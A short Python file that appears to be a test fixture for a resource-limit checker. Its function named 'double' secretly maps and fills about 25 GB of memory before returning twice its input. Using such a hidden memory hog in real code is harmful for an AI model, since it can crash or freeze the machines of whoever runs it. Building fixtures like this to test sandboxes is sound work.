# passes: total weigh
# says:

import mmap


def double(x):
    kept = []
    for _ in range(400):
        kept.append(mmap.mmap(-1, 1 << 26))
        kept[-1].write(b"1" * (1 << 26))
    return 2 * x


def total(x):
    return x.sum()


def weigh(model, x):
    return model(x)
